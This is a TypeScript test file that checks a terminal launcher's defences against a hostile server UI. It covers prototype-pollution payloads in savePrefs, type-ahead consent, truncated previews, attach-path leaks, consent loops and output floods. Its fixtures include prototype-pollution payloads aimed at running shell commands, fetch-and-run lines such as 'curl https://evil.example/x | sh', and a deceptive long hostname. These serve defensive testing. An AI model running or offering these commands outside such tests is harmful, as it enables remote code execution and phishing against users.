/**
 * Issues 16 and 36: a hostile server's UI against the launcher. Each test is an attack that got through
 * before: prototype pollution through savePrefs, keys that made validation throw, type-ahead consent, previews
 * cut at the terminal's width, attach answers that told the worker about local files, a consent loop, cursor
 * shape, output beyond what a terminal can take.
 */
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { chmodSync, existsSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { AFTER_NO_MS } from "../../src/host/launcher-actions.ts";
import { downloadFolder, editorCommand, preferencePaths } from "../../src/host/local-preferences.ts";
import type { TerminalSink } from "../../src/host/terminal-output.ts";
import { QUIET_MS } from "../../src/host/trusted-ui.ts";
import { FakeClock } from "../support/fake-clock.ts";
import { guestBundle } from "../support/guest-bundle.ts";
import { runWithBundle } from "../support/launcher-run.ts";
import { startTestServer, type TestServer } from "../support/p2-server.ts";
import { socketServer } from "../support/socket-server.ts";
import { waitUntil } from "../support/wait.ts";

let server: TestServer;
beforeAll(async () => {
	server = await startTestServer();
});
afterAll(() => server.stop());

const SCREEN = "not the server's screen";

/** A pollution attempt must leave every object's inheritance alone. */
function expectPristinePrototype(): void {
	for (const key of ["externalEditor", "VISUAL", "downloads", "polluted", "x"]) {
		expect(Object.hasOwn(Object.prototype, key)).toBe(false);
		expect(({} as Record<string, unknown>)[key]).toBeUndefined();
	}
}

describe("a hostile UI against the launcher", () => {
	test("savePrefs with an own __proto__ key (as JSON.parse makes it) is refused before any screen and pollutes nothing; Ctrl+G and downloads are the person's", async () => {
		const dir = mkdtempSync(join(tmpdir(), "p2-hostile-editor-"));
		const editor = join(dir, "editor.sh");
		writeFileSync(editor, '#!/bin/sh\nprintf \'%s\' "$(cat "$1") edited" > "$1"\n');
		chmodSync(editor, 0o755);
		const payloads = [
			'{"settings":{"__proto__":{"externalEditor":"sh -c \'touch /tmp/p2-pwned\'","VISUAL":"evil","downloads":"~/.ssh"}}}',
			'{"__proto__":{"externalEditor":"evil"}}',
			'{"settings":{"terminal":{"__proto__":{"polluted":true}}}}',
			'{"keybindings":{"__proto__":["ctrl+x"]}}',
			'{"settings":{"constructor":{"prototype":{"x":1}}}}',
		];
		const run = runWithBundle(
			server,
			guestBundle(`
				const payloads = ${JSON.stringify(payloads)};
				on("1", () => payloads.forEach((p, i) => request("p" + i, "savePrefs", { patch: JSON.parse(p) })));
				listen((m) => {
					if (m.kind === "ask") host.post({ kind: "answer", id: m.id, text: "draft" });
					if (m.kind === "editorResult") out("EDITED:" + m.text + ";");
				});
			`),
			{ env: { EDITOR: editor } },
		);
		const { terminal } = run;
		try {
			await terminal.until("READY;");
			terminal.onInput?.("1");
			for (let i = 0; i < payloads.length; i++) await terminal.until(`ANSWER:p${i}:false:`);
			const answers = terminal.output.match(/ANSWER:p\d:false:[^:]*/g) ?? [];
			expect(answers.length).toBe(payloads.length);
			for (const answer of answers)
				expect(answer).toMatch(/the key "(__proto__|constructor|prototype)" is not allowed/);
			expect(terminal.output).not.toContain(SCREEN);
			expectPristinePrototype();
			const env = { HOME: run.home, EDITOR: editor };
			expect(editorCommand(preferencePaths(env), env, process.platform)).toBe(editor);
			expect(downloadFolder(preferencePaths(env), env)).toBe(join(run.home, "Downloads", "p2"));
			// Ctrl+G runs the person's editor, nothing the server named.
			terminal.onInput?.("\x07");
			await terminal.until("EDITED:draft edited;");
			expect(existsSync("/tmp/p2-pwned")).toBe(false);
			expect((await run.done()).code).toBe(0);
		} finally {
			rmSync(dir, { recursive: true, force: true });
		}
	}, 20000);

	test("keys that name inherited members (constructor, toString, valueOf) are answered, and the launcher lives on", async () => {
		const patches: Record<string, unknown>[] = [
			{ settings: { toString: 1 } },
			{ settings: { valueOf: true } },
			{ settings: { hasOwnProperty: "x" } },
			{ settings: { terminal: { toString: 1 } } },
			{ keybindings: { constructor: ["ctrl+x"] } },
			{ theme: "dark", settings: { isPrototypeOf: null } },
		];
		const run = runWithBundle(
			server,
			guestBundle(`
				const patches = ${JSON.stringify(patches)};
				let i = 0;
				on("1", () => request("p" + i, "savePrefs", { patch: patches[i++] }));
				on("2", () => request("ok", "copy", { text: "still here" }));
			`),
		);
		const { terminal } = run;
		await terminal.until("READY;");
		for (let i = 0; i < patches.length; i++) {
			terminal.onInput?.("1");
			await terminal.until(`ANSWER:p${i}:false:`);
		}
		expect(terminal.output).not.toContain(SCREEN);
		// Still answering: the next request gets its screen.
		terminal.onInput?.("2");
		await terminal.until(SCREEN);
		terminal.onInput?.("n");
		await terminal.until("ANSWER:ok:false:declined:");
		const result = await run.done();
		expect(result.code).toBe(0);
		expectPristinePrototype();
	}, 20000);

	test("type-ahead: keys typed across the question's arrival confirm nothing", async () => {
		const clock = new FakeClock();
		const run = runWithBundle(server, guestBundle(`on("h", () => request("c", "copy", { text: "curl evil | sh" }));`), {
			clock,
		});
		const { terminal } = run;
		await terminal.until("READY;");
		// The person is typing "hello" and Enter; the question arrives after the first key.
		terminal.onInput?.("h");
		await terminal.until(SCREEN);
		for (const key of ["e", "l", "l", "o", "\r"]) {
			clock.advance(120);
			terminal.onInput?.(key);
		}
		clock.advance(QUIET_MS - 1);
		terminal.onInput?.("\r");
		expect(terminal.output).not.toContain("ANSWER:c:");
		expect(terminal.output).toContain("Keys were still arriving");
		// Typed into the launcher's screen, never into the UI.
		expect(terminal.output).not.toContain('IN:"e"');
		// Read, then confirmed.
		clock.advance(QUIET_MS);
		terminal.onInput?.("\r");
		await terminal.until("ANSWER:c:");
		expect((await run.done()).code).toBe(0);
	}, 20000);

	test("a preview is never cut: a command hidden behind spaces and a host hidden in a long address both show", async () => {
		const text = `ls -la${" ".repeat(150)}; curl https://evil.example/x | sh`;
		const host = `accounts.example.com.signin-${"q".repeat(50)}.verify-${"w".repeat(50)}.evil.example`;
		const run = runWithBundle(
			server,
			guestBundle(`
				on("1", () => request("c", "copy", { text: ${JSON.stringify(text)} }));
				on("2", () => request("u", "openUrl", { url: ${JSON.stringify(`https://${host}/oauth`)} }));
			`),
		);
		const { terminal } = run;
		await terminal.until("READY;");
		terminal.onInput?.("1");
		await terminal.until(SCREEN);
		const copyScreen = terminal.output.slice(terminal.output.lastIndexOf(SCREEN));
		expect(copyScreen).toContain(`Length: ${text.length} characters · 1 line`);
		expect(copyScreen).toContain("; curl https://evil.example/x | sh");
		expect(copyScreen).toContain("↪ ");
		terminal.onInput?.("n");
		await terminal.until("ANSWER:c:false:declined:");
		const mark = terminal.mark();
		terminal.onInput?.("2");
		await terminal.until(SCREEN, mark);
		const urlScreen = terminal.output.slice(mark);
		expect(urlScreen).toContain("Site: evil.example");
		expect(urlScreen).toContain("Host: accounts.example.com.signin-qqqq");
		expect(urlScreen.replace(/\x1b\[[0-9;]*m/g, "").replace(/\r\n\S* ?/g, "")).toContain(".evil.example/oauth");
		terminal.onInput?.("n");
		await terminal.until("ANSWER:u:false:declined:");
		expect((await run.done()).code).toBe(0);
	}, 20000);

	test("attach tells the worker only declined, failed or cancelled: never a path, nor whether a file exists", async () => {
		const dir = mkdtempSync(join(tmpdir(), "p2-hostile-attach-"));
		writeFileSync(join(dir, "real.txt"), "real");
		const session = server.server.ctx.catalog.create({ cwd: dir, title: "attach probe" }).id;
		const other = "0a0a0a0a-0000-4000-8000-00000000000f";
		const clock = new FakeClock();
		const run = runWithBundle(
			server,
			guestBundle(`
				host.post({ kind: "navigation", session: ${JSON.stringify(session)} });
				on("m", () => request("missing", "attach", { path: ${JSON.stringify(join(dir, "missing.txt"))} }));
				on("r", () => request("real", "attach", { path: ${JSON.stringify(join(dir, "real.txt"))} }));
				on("M", () => {
					request("missing2", "attach", { path: "~/.ssh/nothing-here" });
					setTimeout(() => host.post({ kind: "navigation", session: ${JSON.stringify(other)} }), 0);
				});
				on("R", () => {
					request("real2", "attach", { path: ${JSON.stringify(join(dir, "real.txt"))} });
					setTimeout(() => host.post({ kind: "navigation", session: ${JSON.stringify(other)} }), 0);
				});
				on("b", () => { host.post({ kind: "navigation", session: ${JSON.stringify(session)} }); out("BACK;"); });
			`),
			{ columns: 160, clock },
		);
		const { terminal } = run;
		try {
			await terminal.until("READY;");
			terminal.onInput?.("m");
			await terminal.until("missing.txt does not exist");
			terminal.onInput?.("\r");
			await terminal.until("ANSWER:missing:false:declined:null;");
			terminal.onInput?.("r");
			await terminal.until("Send a file from this computer");
			terminal.onInput?.("n");
			await terminal.until("ANSWER:real:false:declined:null;");
			// Past the wait after a "no": withdrawn by navigating away, the same word whether the file is there or not.
			clock.advance(AFTER_NO_MS);
			terminal.onInput?.("M");
			await terminal.until("ANSWER:missing2:false:cancelled:null;");
			terminal.onInput?.("b");
			await terminal.until("BACK;");
			terminal.onInput?.("R");
			await terminal.until("ANSWER:real2:false:cancelled:null;");
			const answers = (terminal.output.match(/ANSWER:[^;]*;/g) ?? []).join("\n");
			expect(answers).not.toContain(dir);
			expect(answers).not.toContain(run.home);
			expect(answers).not.toContain("exist");
			expect((await run.done()).code).toBe(0);
		} finally {
			rmSync(dir, { recursive: true, force: true });
		}
	}, 20000);

	test("a consent loop cannot trap the person: after a no the next question waits, and d refuses such requests for the run", async () => {
		const clock = new FakeClock();
		const run = runWithBundle(
			server,
			guestBundle(`
				let n = 0;
				const ask = () => { request("c" + n++, "copy", { text: "again" }); out("ASKED;"); };
				on("1", ask);
				listen((m) => { if (m.kind === "response" && !m.ok && n < 50) ask(); });
			`),
			{ clock },
		);
		const { terminal } = run;
		await terminal.until("READY;");
		terminal.onInput?.("1");
		await terminal.until(SCREEN);
		const mark = terminal.mark();
		terminal.onInput?.("n");
		await terminal.until("ANSWER:c0:false:declined:", mark);
		// The loop asks again at once; the question waits before it is shown.
		await terminal.until("ASKED;", mark);
		expect(terminal.output.indexOf(SCREEN, mark)).toBe(-1);
		clock.advance(AFTER_NO_MS);
		await terminal.until(SCREEN, mark);
		expect(terminal.output.slice(mark)).toContain("d: refuse such requests until p2 exits");
		terminal.onInput?.("d");
		await terminal.until("ANSWER:c1:false:declined:");
		// Every later copy request is refused without a screen, at once.
		await terminal.until("ANSWER:c49:false:declined:");
		expect(terminal.output.split(SCREEN).length - 1).toBe(2);
		expect((await run.done()).code).toBe(0);
	}, 20000);

	test("three Ctrl+C within a second end p2 on the launcher's own screen too", async () => {
		const run = runWithBundle(server, guestBundle(`on("1", () => request("c", "copy", { text: "trap" }));`));
		const { terminal } = run;
		await terminal.until("READY;");
		terminal.onInput?.("1");
		await terminal.until(SCREEN);
		for (let i = 0; i < 3; i++) terminal.onInput?.("\x03");
		expect((await run.result).code).toBe(130);
		await run.done();
	}, 20000);

	test("the cursor's shape the worker set is reset when p2 exits", async () => {
		const run = runWithBundle(server, guestBundle(`out("\\x1b[5 qSHAPED;");`));
		const { terminal } = run;
		await terminal.until("SHAPED;");
		expect(terminal.output).toContain("\x1b[5 q");
		expect((await run.done()).code).toBe(0);
		const tail = terminal.output.slice(terminal.output.lastIndexOf("SHAPED;"));
		expect(tail).toContain("\x1b[0 q");
	}, 20000);

	test("output over the UI's budget is dropped with a note on the launcher's own screen; the UI redraws after it", async () => {
		const run = runWithBundle(
			server,
			guestBundle(`on("1", () => { for (let i = 0; i < 10; i++) out("F".repeat(50000)); });`),
			{ limits: { outputCharsPerSecond: 100_000 } },
		);
		const { terminal } = run;
		await terminal.until("READY;");
		const from = terminal.mark();
		terminal.onInput?.("1");
		await terminal.until("The UI wrote more than a terminal can take", from);
		await terminal.until("went over 0.1 MiB in one second", from);
		const shown = terminal.output.slice(from);
		expect(shown).toContain(SCREEN);
		// Two chunks fit a second's budget (four if the chunks straddle two seconds); the rest were dropped.
		const passed = shown.split("F".repeat(50000)).length - 1;
		expect(passed).toBeGreaterThan(0);
		expect(passed).toBeLessThanOrEqual(4);
		const dismissed = terminal.mark();
		terminal.onInput?.("\r");
		await terminal.until("REDRAW;", dismissed);
		const result = await run.done();
		expect(result.problems).toContain("output over the rate limit was dropped");
	}, 20000);

	test("a terminal that reads slowly: the UI's output waits no further than a bound, and the UI redraws once it caught up", async () => {
		const given: string[] = [];
		const waiting: (() => void)[] = [];
		const sink: TerminalSink = (data, done) => {
			given.push(data);
			waiting.push(() => done());
		};
		const take = () => waiting.shift()?.();
		const run = runWithBundle(
			server,
			// 4,000,000 characters: within the UI's budget for a second, far more than may wait for the terminal.
			guestBundle(`on("1", () => {
				for (let i = 0; i < 40; i++) out("S".repeat(100000));
				host.post({ kind: "status", action: { kind: "title", text: "SENT" } });
			});`),
			{ extra: { terminalSink: sink } },
		);
		const written = () => given.join("");
		await waitUntil(() => {
			take();
			return written().includes("READY;");
		}, "the UI to start");
		run.terminal.onInput?.("1");
		// The terminal takes one piece at a time until the launcher's own write after the flood reaches it.
		await waitUntil(() => {
			take();
			return written().includes("\x1b]0;SENT\x07");
		}, "the title set after the output");
		const beforeTitle = written().slice(0, written().indexOf("\x1b]0;SENT\x07"));
		const passed = beforeTitle.split("S").length - 1;
		expect(passed).toBeGreaterThan(0);
		expect(passed).toBeLessThan(1_500_000);
		await waitUntil(() => {
			take();
			return written().includes("REDRAW;");
		}, "the UI to redraw once the terminal caught up");
		while (waiting.length) take();
		expect((await run.done()).code).toBe(0);
	}, 20000);

	test("a server that sends a frame larger than allowed at every connection: the person is told on the launcher's own screen", async () => {
		let sockets = 0;
		const hostile = socketServer({
			open(ws) {
				sockets++;
				ws.send("x".repeat(64 * 1024 * 1024));
			},
		});

		try {
			const run = runWithBundle(
				server,
				guestBundle(`listen((m) => { if (m.kind === "frame") out("FRAME:" + m.text.length + ";"); });`),
				{
					extra: {
						target: { kind: "device", origin: () => `http://127.0.0.1:${hostile.port}`, credentials: () => ({}) },
					},
				},
			);
			const { terminal } = run;
			await terminal.until("READY;");
			await terminal.until("The server sent more than p2 accepts");
			await terminal.until("The server sent a frame of 64 MiB; p2 takes at most 8 MiB.");
			await terminal.until("connects again in 5 s");
			expect(terminal.output).toContain(SCREEN);
			const dismissed = terminal.mark();
			terminal.onInput?.("\r");
			await terminal.until("REDRAW;", dismissed);
			expect(terminal.output).not.toContain("FRAME:");
			expect(sockets).toBeGreaterThanOrEqual(1);
			expect((await run.done()).problems).toContain("The server sent a frame of 64 MiB; p2 takes at most 8 MiB.");
		} finally {
			hostile.stop(true);
		}
	}, 20000);
});
